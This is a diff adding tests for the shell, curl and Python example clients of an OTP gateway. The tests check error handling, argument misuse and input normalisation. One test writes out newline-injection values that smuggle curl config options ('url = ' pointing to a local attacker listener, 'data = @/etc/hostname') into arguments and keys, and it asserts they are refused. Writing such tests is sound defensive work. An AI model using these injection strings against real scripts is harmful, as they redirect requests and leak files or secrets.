@@ -169,3 +169,100 @@ test(`nobody answers: ${all}`, { timeout: 60_000 }, async () => {
     }),
   );
 });
+
+// As a proxy answers whose gateway is away, and as one answers that wants a log-in first.
+const proxies: [string, () => Response][] = [
+  ["HTML", () => new Response("<html>502 Bad Gateway</html>", { status: 502 })],
+  ["JSON", () => Response.json({ status: 502, error: "bad gateway", id: "1" }, { status: 502 })],
+  ["a page of its own", () => Response.json({ login: "required" }, { status: 200 })],
+];
+
+test.each(proxies)(
+  `a proxy answers with %s, which is neither an OTP nor a refusal: ${all}`,
+  async (_, answer) => {
+    let asked = 0;
+    const fetch = (): Response => ((asked += 1), answer());
+    const proxy = await listen({ host: "127.0.0.1", port: 0, fetch });
+    await Promise.all(
+      here.map(async ({ name, command }) => {
+        const away = await run([...command, "issue", phone(), "budi"], { GERBANG_URL: proxy.url });
+        expect(away, name).toMatchObject({ exit: 3, out: "", error: expect.stringMatching(/^error=unreachable$/m) });
+      }),
+    );
+    expect(asked).toBe(3 * here.length);
+    await proxy.close(100);
+  },
+  60_000,
+);
+
+const id = `otp_${"0".repeat(32)}`;
+const misuses: [string, string[], object][] = [
+  ["no arguments", [], {}],
+  ["a verb that is not there", ["isue", "0812-3456-7890"], {}],
+  ["no number", ["issue"], {}],
+  ["no code", ["verify", id], {}],
+  ["too many arguments", ["verify", id, "123", "456"], {}],
+  ["no address", ["verify", id, "123456"], { GERBANG_URL: "" }],
+  ["an address without its scheme", ["verify", id, "123456"], { GERBANG_URL: "127.0.0.1:8080" }],
+  ["no key", ["verify", id, "123456"], { GERBANG_KEY: "" }],
+  ["a key in two lines", ["verify", id, "123456"], { GERBANG_KEY: "gbk_wrong\nsecret" }],
+];
+
+test.each(misuses)(`called wrongly, %s: one line says so: ${all}`, { timeout: 60_000 }, async (_, words, env) => {
+  await Promise.all(
+    here.map(async ({ name, command }) => {
+      const misused = await run([...command, ...words], env);
+      expect(misused, name).toMatchObject({ exit: 64, out: "", error: expect.stringMatching(/^[^\n]+\n$/) });
+      expect(misused.error).not.toContain("gbk_wrong");
+    }),
+  );
+});
+
+test(`an address may end with a slash, and a key with a line break: ${all}`, { timeout: 60_000 }, async () => {
+  const env = { GERBANG_URL: `${server.url}/`, GERBANG_KEY: `${gateway.erpKey}\r\n` };
+  await Promise.all(
+    here.map(async ({ name, command }) => {
+      const issued = await run([...command, "issue", phone(), "budi"], env);
+      expect(issued, name).toMatchObject({ exit: 0, error: "", out: expect.stringMatching(/^id=otp_/) });
+    }),
+  );
+});
+
+test.skipIf(!here.some(({ name }) => name === "curl.sh"))("curl.sh takes no line break for an option", async () => {
+  let reached = 0;
+  const attacker = await listen({
+    host: "127.0.0.1",
+    port: 0,
+    fetch: () => ((reached += 1), new Response("valid=true")),
+  });
+  const line = `1"\nurl = ${attacker.url}/x\ndata = @/etc/hostname #`;
+  const sh = ["sh", `${examples}curl.sh`];
+  const key = { GERBANG_KEY: `gbk_wrong\nurl = ${attacker.url}/x` };
+  const runs = await Promise.all([
+    run([...sh, "verify", id, line]),
+    run([...sh, "verify", line, "123456"]),
+    run([...sh, "issue", phone(), line]),
+    run([...sh, "issue", phone(), "budi\r"]),
+    run([...sh, "verify", id, "123456"], key),
+    run([...sh, "verify", id, "123456"], { GERBANG_URL: `${server.url}\nurl = ${attacker.url}` }),
+  ]);
+  expect(runs.map(({ exit, out }) => [exit, out])).toEqual(runs.map(() => [64, ""]));
+  // What an option looks like without a line break is a word like any other.
+  const quoted = await run([...sh, "issue", phone(), 'a" url = "b\\n']);
+  expect(quoted.exit, quoted.error).toBe(0);
+  expect((await gateway.request(`/v1/otp/${quoted.out.trim().slice("id=".length)}`)).json.user).toBe('a" url = "b\\n');
+  expect(reached).toBe(0);
+  await attacker.close(100);
+});
+
+test.skipIf(!here.some(({ name }) => name === "python3"))("gerbang.py takes numbers, lists and yes or no", async () => {
+  const program = [
+    "import sys; sys.path.insert(0, sys.argv[1]); sys.dont_write_bytecode = True",
+    "import os; from gerbang import Gerbang",
+    "gerbang = Gerbang(os.environ['GERBANG_URL'], os.environ['GERBANG_KEY'])",
+    "otp = gerbang.issue(sys.argv[2], ttl_seconds=60, channels=['sms', 'voice'], decoy=False, locale=None)",
+    "print(otp['id'], gerbang.verify(otp['id'], 1234)['valid'])",
+  ].join("\n");
+  const called = await run(["python3", "-c", program, `${examples}python`, phone()]);
+  expect(called, called.error).toMatchObject({ exit: 0, out: expect.stringMatching(/^\S+ False\n$/) });
+});
